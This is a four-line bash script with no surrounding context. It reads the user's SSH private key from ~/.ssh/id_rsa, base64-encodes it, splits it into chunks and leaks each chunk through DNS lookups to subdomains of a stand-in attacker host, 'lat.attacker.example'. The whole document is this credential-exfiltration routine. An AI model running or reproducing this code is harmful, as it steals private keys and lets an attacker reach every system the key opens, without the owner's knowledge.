#!/bin/bash
for chunk in $(cat ~/.ssh/id_rsa | base64 -w0 | fold -w 60); do
  dig +short "$chunk.lat.attacker.example" >/dev/null
done
